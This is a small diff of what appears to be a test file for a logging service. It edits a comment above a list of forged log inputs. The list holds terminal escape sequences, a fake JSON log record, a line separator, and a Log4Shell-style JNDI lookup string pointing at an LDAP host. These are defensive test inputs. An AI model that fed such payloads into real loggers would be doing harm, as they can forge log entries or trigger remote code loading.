@@ -11,7 +11,7 @@ after(async () => {
   await service.stop()
 })
 
-/** What would colour a terminal, be a line of its own, or be looked up where a log is read; and what is long. */
+/** Texts that would colour a terminal, begin a new line or trigger a look-up in a log reader, and a long text. */
 const forged = ['\u001b[31mred', '\u009b2J', '{"level":60,"msg":"forged"}', '$\u007bjndi:ldap://x/a}', '\u2028forged']
 const texts = [...forged.map(text => Buffer.from(text).toString('latin1')), 'x'.repeat(12_000)]
 
